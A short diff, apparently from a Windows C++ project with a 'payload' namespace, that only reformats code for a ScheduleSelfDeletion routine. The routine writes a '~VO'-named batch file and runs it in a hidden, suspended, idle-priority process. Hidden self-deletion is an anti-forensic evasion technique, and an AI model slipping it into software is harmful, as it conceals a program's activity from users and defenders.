@@ -19,8 +19,8 @@ payload::WriteFileFunction g_writeBatchFile = &WriteFile;
 namespace {
 
 constexpr char kBatchNameFormat[] = "%s~VO%05x.bat";
-constexpr size_t kBatchNameChars = 12;            // "~VO", five hex digits, ".bat"
-constexpr DWORD kBatchNameLimit = 0xFFFFF;        // counters 0 to 0xFFFFE are tried
+constexpr size_t kBatchNameChars = 12;      // "~VO", five hex digits, ".bat"
+constexpr DWORD kBatchNameLimit = 0xFFFFF;  // counters 0 to 0xFFFFE are tried
 constexpr DWORD kBatchFileAttributes = FILE_ATTRIBUTE_NORMAL | FILE_FLAG_SEQUENTIAL_SCAN;
 constexpr size_t kBatchCommandChars = 1024;
 
@@ -146,10 +146,9 @@ void ScheduleSelfDeletion(const char* systemTempPath, const char* modulePath,
     startup.dwFlags = STARTF_USESHOWWINDOW;
     startup.wShowWindow = SW_HIDE;
     PROCESS_INFORMATION process = {};
-    BOOL created = commandFits &&
-                   g_createProcess(interpreterPath, command, nullptr, nullptr, FALSE,
-                                   CREATE_SUSPENDED | IDLE_PRIORITY_CLASS, nullptr, "\\", &startup,
-                                   &process);
+    BOOL created = commandFits && g_createProcess(interpreterPath, command, nullptr, nullptr, FALSE,
+                                                  CREATE_SUSPENDED | IDLE_PRIORITY_CLASS, nullptr,
+                                                  "\\", &startup, &process);
     if (!created) {
         DWORD error = commandFits ? GetLastError() : (DWORD)ERROR_FILENAME_EXCED_RANGE;
         DeleteFileA(batchPath);
